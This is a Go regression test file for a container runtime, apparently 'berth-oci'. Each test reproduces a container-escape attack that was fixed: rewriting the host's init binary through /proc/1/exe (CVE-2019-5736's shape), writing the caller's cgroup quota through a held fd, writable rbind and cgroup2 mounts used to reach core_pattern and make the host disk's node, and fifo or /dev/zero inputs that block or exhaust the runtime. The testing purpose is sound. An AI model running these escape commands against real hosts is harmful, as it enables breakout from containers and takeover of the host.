package test

// Attacks of the outside pass on berth-oci that got through, in their
// attack's shape; each failed until its fix: a container with
// CAP_SYS_PTRACE rewrote the host's berth-init through /proc/1/exe of its
// held init stage (now started from a read-only mount of itself), a
// writable cgroup2 mount and a writable rbind of / carried the host's
// kernel filesystems in, the init stage held its caller's cgroup files
// (Go's container-aware GOMAXPROCS), and a fifo or /dev/zero as an input
// file blocked berth-oci or ran it out of memory.

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// ociRunBin is ociRun with another berth-oci binary (berth-init beside it).
func ociRunBin(t *testing.T, bin, root string, args ...string) result {
	t.Helper()
	return ociCall(t, bin, nil, append([]string{"--root", root}, args...))
}

// waitFile waits for a file a container writes to a shared dir.
func waitFile(t *testing.T, p string) string {
	t.Helper()
	deadline := time.Now().Add(runTimeout)
	for {
		if b, err := os.ReadFile(p); err == nil && len(b) > 0 {
			return string(b)
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s never appeared", p)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestHoleOCIPtraceRewritesInitBinary (CVE-2019-5736's shape): a
// container granted CAP_SYS_PTRACE (docker --cap-add SYS_PTRACE, a
// debugging pod) opens /proc/1/exe of its init stage held at the start
// gate, which is berth-init on the host, keeps the fd, and once the init
// stage has exec'd the container's command (the binary is no longer busy)
// reopens it for writing through /proc/self/fd: it rewrites the host's
// berth-init, which the next create or exec runs as root. The same works,
// racing, against the exec helper of any `berth-oci exec`.
func TestHoleOCIPtraceRewritesInitBinary(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	// A copy of the binaries: the attack writes to them.
	bins := t.TempDir()
	copyFile(t, berthOCIBin, filepath.Join(bins, "berth-oci"))
	copyFile(t, berthInitBin, filepath.Join(bins, "berth-init"))
	before, err := os.ReadFile(filepath.Join(bins, "berth-init"))
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(bins, "berth-oci")
	shared := t.TempDir()
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		setCaps(cfg, "CAP_SYS_PTRACE", "CAP_KILL")
		addMount(cfg, map[string]any{"destination": "/shared", "type": "bind", "source": shared, "options": []string{"bind", "rw"}})
	}, "/bin/sleep", "1000")
	root := tk.stateDir
	mustSucceed(t, ociRunBin(t, bin, root, "create", "--bundle", bundle, tk.id))
	defer func() { mustSucceed(t, ociRunBin(t, bin, root, "delete", "--force", tk.id)) }()
	attack := `exec 3</proc/1/exe || { echo refused > /shared/done; exit; }
		echo held > /shared/ready
		while [ "$(readlink /proc/1/exe)" != /bin/busybox ]; do sleep 0.05; done
		if echo PWNED >> /proc/self/fd/3; then echo wrote > /shared/done; else echo refused > /shared/done; fi`
	mustSucceed(t, ociRunBin(t, bin, root, "exec", "--detach", tk.id, "/bin/sh", "-c", attack))
	waitFile(t, filepath.Join(shared, "ready"))
	mustSucceed(t, ociRunBin(t, bin, root, "start", tk.id))
	got := strings.TrimSpace(waitFile(t, filepath.Join(shared, "done")))
	after, _ := os.ReadFile(filepath.Join(bins, "berth-init"))
	if got == "wrote" || string(after) != string(before) {
		t.Errorf("the container rewrote the host's berth-init through /proc/1/exe (%s; %d bytes before, %d after)", got, len(before), len(after))
	}
}

// TestHoleOCIGatedInitHoldsCallerCgroupFiles: berth-init is a Go
// program, and Go's runtime (1.25+) keeps fds of its cgroup's CPU limit
// files open to follow them: the init stage held at the gate holds
// cpu.cfs_quota_us and cpu.cfs_period_us of berth-oci's caller's cgroup
// (containerd's shim's). A container with CAP_SYS_PTRACE reopens the fd
// through /proc/1/fd for writing and sets its caller's CPU quota.
func TestHoleOCIGatedInitHoldsCallerCgroupFiles(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	cpu := "/sys/fs/cgroup/cpu"
	if _, err := os.Stat(filepath.Join(cpu, "cgroup.procs")); err != nil {
		t.Fatalf("this attack needs the v1 cpu hierarchy at %s: %v", cpu, err)
	}
	b := make([]byte, 4)
	_, _ = rand.Read(b)
	caller := filepath.Join(cpu, "berth-test-oci-caller-"+hex.EncodeToString(b))
	must(t, os.Mkdir(caller, 0o755))
	defer os.Remove(caller)
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		setCaps(cfg, "CAP_SYS_PTRACE", "CAP_KILL")
	}, "/bin/true")
	root := tk.stateDir
	// The caller (a shim) runs in a cgroup of its own.
	cmd := exec.Command("/bin/sh", "-c", `echo $$ > "$1/cgroup.procs" && exec "$2" --root "$3" create --bundle "$4" "$5"`,
		"sh", caller, berthOCIBin, root, bundle, tk.id)
	// A file, not a pipe: the container keeps create's stdio.
	out, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Run(); err != nil {
		b, _ := os.ReadFile(out.Name())
		t.Fatalf("create from the caller's cgroup: %v: %s", err, b)
	}
	defer func() { mustSucceed(t, ociRun(t, root, "delete", "--force", tk.id)) }()
	res := ociRun(t, root, "exec", tk.id, "/bin/sh", "-c",
		`for f in /proc/1/fd/*; do case "$(readlink $f)" in *cpu.cfs_quota_us) echo 4242 > $f && echo "wrote $(readlink $f)";; esac; done; true`)
	q, _ := os.ReadFile(filepath.Join(caller, "cpu.cfs_quota_us"))
	if strings.TrimSpace(string(q)) == "4242" || strings.Contains(res.stdout, "wrote") {
		t.Errorf("the container set its caller's CPU quota through the gated init stage's fd: %s (quota now %s)", res.stdout, q)
	}
}

// TestHoleOCIRecursiveBindCarriesKernelFS: berth refuses a writable bind
// of the host's /proc or a cgroup hierarchy (by fstatfs of the cloned
// tree's top), but a writable rbind of a directory holding them ("/", or
// /sys/fs/cgroup on a hybrid host) brings them along writable: the
// container (root, no capability needed) can write the host's
// kernel.core_pattern, or leave its cgroup. berth run's --mount refuses
// such a source (checkBindSource: "holds the host's proc filesystem");
// bundle mounts skip that check.
func TestHoleOCIRecursiveBindCarriesKernelFS(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		addMount(cfg, map[string]any{"destination": "/host", "type": "bind", "source": "/", "options": []string{"rbind", "rw"}})
	}, "/bin/sh", "-c", `{ exec 3>>/host/proc/sys/kernel/core_pattern; } 2>/dev/null && echo "core_pattern writable"
		{ exec 4>>/host/sys/fs/cgroup/unified/cgroup.procs; } 2>/dev/null && echo "cgroup.procs writable"; true`)
	res := ociRun(t, tk.stateDir, "run", "--bundle", bundle, tk.id)
	if res.code == 0 && strings.Contains(res.stdout, "writable") {
		t.Errorf("a writable rbind of / gave the container the host's kernel filesystems writable:\n%s", res)
	}
}

// TestHoleOCIWritableCgroup2Mount: a "cgroup" mount is made read-only,
// but one of type "cgroup2" (or any kernel filesystem by type) is mounted
// as asked, writable: without a cgroup namespace it is the host's whole
// hierarchy, and the container moves itself out of its cgroup, and so out
// of its device program (berth-oci's only device control), then makes the
// host disk's node and opens devices berth denies, with CAP_MKNOD (a
// default capability of containerd's and Docker's). (On the test VM
// something beyond berth still refuses opening the root disk itself;
// another block device, zram0, opened and read.)
func TestHoleOCIWritableCgroup2Mount(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	var st unix.Stat_t
	must(t, unix.Stat("/", &st))
	unified := "/sys/fs/cgroup/unified"
	if _, err := os.Stat(filepath.Join(unified, "cgroup.procs")); err != nil {
		unified = "/sys/fs/cgroup"
	}
	b := make([]byte, 4)
	_, _ = rand.Read(b)
	escape := "berth-test-oci-escape-" + hex.EncodeToString(b)
	must(t, os.Mkdir(filepath.Join(unified, escape), 0o755))
	defer os.Remove(filepath.Join(unified, escape))
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		setCaps(cfg, "CAP_MKNOD", "CAP_KILL")
		addMount(cfg, map[string]any{"destination": "/cg", "type": "cgroup2", "source": "cgroup2", "options": []string{"rw", "nosuid"}})
	}, "/bin/sh", "-c", fmt.Sprintf(`mknod /dev/disk0 b %[1]d %[2]d 2>/dev/null && echo "mknod in its cgroup"
		echo $$ > /cg/%[3]s/cgroup.procs 2>/dev/null && echo "left its cgroup"
		mknod /dev/disk b %[1]d %[2]d 2>/dev/null && echo "made the host's disk node"
		mknod /dev/tun c 10 200 2>/dev/null && { exec 3</dev/tun; } 2>/dev/null && echo "opened /dev/net/tun"; true`,
		unix.Major(st.Dev), unix.Minor(st.Dev), escape))
	res := ociRun(t, tk.stateDir, "run", "--bundle", bundle, tk.id)
	if strings.Contains(res.stdout, "mknod in its cgroup") {
		t.Fatalf("the device program did not hold even in the container's own cgroup:\n%s", res)
	}
	if res.code == 0 && (strings.Contains(res.stdout, "left its cgroup") || strings.Contains(res.stdout, "disk node")) {
		t.Errorf("a writable cgroup2 mount let the container escape its device control:\n%s", res)
	}
}

// TestHoleOCISpecialInputFiles: config.json, exec's --process and
// update's --resources are read whatever they are: a fifo blocks
// berth-oci for ever, /dev/zero (--process has no size bound) eats its
// memory. berth's own --seccomp profile is refused unless a regular file
// of at most 1 MiB.
func TestHoleOCISpecialInputFiles(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	root := tk.stateDir
	bundle := atkBundle(t, tk, nil, "/bin/sleep", "1000")
	mustSucceed(t, ociRun(t, root, "run", "--detach", "--bundle", bundle, tk.id))
	defer func() { mustSucceed(t, ociRun(t, root, "delete", "--force", tk.id)) }()
	fifo := filepath.Join(t.TempDir(), "fifo")
	must(t, unix.Mkfifo(fifo, 0o600))
	fifoBundle := t.TempDir()
	must(t, unix.Mkfifo(filepath.Join(fifoBundle, "config.json"), 0o600))
	for _, args := range [][]string{
		{"create", "--bundle", fifoBundle, tk.id + "-x"},
		{"exec", "--process", fifo, tk.id},
		{"update", "--resources", fifo, tk.id},
		{"exec", "--process", "/dev/zero", tk.id},
	} {
		// A guard against the hang, not a timing assertion; the memory
		// bound keeps /dev/zero from the machine's.
		cmd := exec.Command("/bin/sh", "-c", `ulimit -v 4000000; exec "$@"`, "sh", berthOCIBin)
		cmd.Args = append(cmd.Args, append([]string{"--root", root}, args...)...)
		done := make(chan error, 1)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		go func() { done <- cmd.Wait() }()
		select {
		case err := <-done:
			if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == 1 {
				continue
			}
			t.Errorf("berth-oci %s: want a refusal (exit 1), got %v", strings.Join(args, " "), err)
		case <-time.After(runTimeout):
			_ = cmd.Process.Kill()
			<-done
			t.Errorf("berth-oci %s: blocked for %s", strings.Join(args, " "), runTimeout)
		}
	}
}
